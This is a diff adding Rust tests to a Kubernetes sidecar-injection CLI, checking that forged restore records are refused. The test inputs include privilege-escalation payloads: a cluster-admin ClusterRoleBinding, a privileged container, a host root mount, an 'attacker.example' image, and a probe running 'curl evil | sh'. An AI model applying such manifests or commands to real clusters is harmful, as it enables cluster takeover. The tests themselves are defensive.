@@ -1469,3 +1469,159 @@ fn the_webhook_tells_whoever_creates_the_pod_of_the_placeholder_image() {
         mutation.warnings
     );
 }
+
+// === Issue 27: a forged record restores nothing ===
+
+/// `stream` with `edit` applied to the object of `kind`: the object as
+/// JSON, and the record in its pod template as JSON.
+fn forge(stream: &str, kind: &str, edit: impl Fn(&mut Json, &mut Json)) -> String {
+    let docs: Vec<Json> = objects(stream);
+    let mut out = String::new();
+    for mut doc in docs {
+        if doc["kind"] == kind {
+            let template = if kind == "Pod" {
+                "/metadata/annotations"
+            } else {
+                "/spec/template/metadata/annotations"
+            };
+            let text = doc.pointer(template).unwrap()["healthproxy.io/injected"]
+                .as_str()
+                .unwrap()
+                .to_string();
+            let mut record: Json = serde_json::from_str(&text).unwrap();
+            edit(&mut doc, &mut record);
+            doc.pointer_mut(template).unwrap()["healthproxy.io/injected"] = record.to_string().into();
+        }
+        out.push_str("---\n");
+        out.push_str(&serde_yaml_ng::to_string(&doc).unwrap());
+    }
+    out
+}
+
+/// Puts `entries` first in the record's changes.
+fn prepend(record: &mut Json, entries: Json) {
+    let changes = record["changes"].as_array_mut().unwrap();
+    for (i, e) in entries.as_array().unwrap().iter().enumerate() {
+        changes.insert(i, e.clone());
+    }
+}
+
+/// Both commands refuse `stream`, exit 2, write nothing and name `field`.
+fn refused_by_both(stream: &str, field: &str) {
+    for command in ["uninject", "inject"] {
+        let (code, out, err) = cli(&[command], stream);
+        assert_eq!(code, 2, "{command}: {err}");
+        assert_eq!(out, "", "{command}: nothing written");
+        assert!(err.contains(field), "{command}: {field} named in: {err}");
+        assert!(err.contains("does not match what inject writes"), "{err}");
+        assert!(!err.contains("restored:"), "{err}");
+    }
+}
+
+#[test]
+fn a_forged_record_that_would_rewrite_a_pod_into_a_cluster_role_binding_is_refused() {
+    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
+    let once = inject::inject(&text, &Options::default()).unwrap().text;
+    let forged = forge(&once, "Pod", |_, record| {
+        prepend(
+            record,
+            serde_json::json!([
+                {"at": ["apiVersion"], "was": "rbac.authorization.k8s.io/v1"},
+                {"at": ["kind"], "was": "ClusterRoleBinding"},
+                {"at": ["metadata", "name"], "was": "owned"},
+                {"at": ["roleRef"], "was": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}},
+                {"at": ["subjects"], "was": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]},
+                {"at": ["spec"]},
+            ]),
+        )
+    });
+    refused_by_both(&forged, "Pod solo: apiVersion: is not a field inject sets");
+}
+
+#[test]
+fn a_forged_record_that_would_make_a_deployment_privileged_is_refused() {
+    let text = std::fs::read_to_string(fixture_path("deployment.yaml")).unwrap();
+    let once = inject::inject(&text, &Options::default()).unwrap().text;
+    let cases = [
+        (
+            serde_json::json!({"at": ["spec", "hostPID"], "was": true}),
+            "spec.template.spec.hostPID",
+        ),
+        (
+            serde_json::json!({"at": ["spec", "containers", "shop", "securityContext"], "was": {"privileged": true}}),
+            "spec.template.spec.containers[shop].securityContext",
+        ),
+        (
+            serde_json::json!({"at": ["spec", "volumes"], "was": [{"name": "host", "hostPath": {"path": "/"}}]}),
+            "spec.template.spec.volumes",
+        ),
+        (
+            serde_json::json!({"at": ["spec", "containers", "shop", "image"], "was": "attacker.example/shop:evil"}),
+            "spec.template.spec.containers[shop].image",
+        ),
+        // A probe inject never wrote: an exec command of the forger's.
+        (
+            serde_json::json!({"at": ["spec", "containers", "shop", "livenessProbe"], "was": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
+            "spec.template.spec.containers[shop].livenessProbe",
+        ),
+    ];
+    for (entry, field) in cases {
+        let forged = forge(&once, "Deployment", |_, record| {
+            prepend(record, serde_json::json!([entry.clone()]))
+        });
+        refused_by_both(&forged, &format!("Deployment store/shop: {field}: "));
+    }
+}
+
+#[test]
+fn a_forged_prestop_header_does_not_choose_the_token() {
+    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
+    let once = inject::inject(&text, &Options::default()).unwrap().text;
+    let forged = forge(&once, "Pod", |pod, _| {
+        pod["spec"]["containers"][0]["lifecycle"]["preStop"]["httpGet"]["httpHeaders"][0]["value"] =
+            "Bearer known-to-the-forger".into();
+    });
+    refused_by_both(
+        &forged,
+        "Pod solo: spec.containers[web].lifecycle: its preStop hook is not the one inject writes",
+    );
+}
+
+#[test]
+fn a_record_without_the_sidecar_is_refused() {
+    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
+    let once = inject::inject(&text, &Options::default()).unwrap().text;
+    let forged = forge(&once, "Pod", |pod, record| {
+        record["changes"]
+            .as_array_mut()
+            .unwrap()
+            .retain(|e| e["at"] != serde_json::json!(["spec", "initContainers"]));
+        pod["spec"].as_object_mut().unwrap().remove("initContainers");
+    });
+    refused_by_both(
+        &forged,
+        "Pod solo: metadata.annotations.healthproxy.io/injected: lists no healthproxy sidecar",
+    );
+}
+
+#[test]
+fn uninject_lists_every_restored_field_on_stderr() {
+    let text = std::fs::read_to_string(fixture_path("pod.yaml")).unwrap();
+    let once = inject::inject(&text, &Options::default()).unwrap().text;
+    let (code, out, err) = cli(&["uninject"], &once);
+    assert_eq!(code, 0, "{err}");
+    assert_same_stream(&out, &text, "restored");
+    for field in [
+        "spec.containers[web].livenessProbe",
+        "spec.containers[web].readinessProbe",
+        "spec.containers[web].lifecycle",
+        "spec.initContainers",
+        "spec.volumes",
+        "metadata.annotations",
+    ] {
+        assert!(
+            err.contains(&format!("restored: Pod solo: {field}\n")),
+            "{field}: {err}"
+        );
+    }
+}
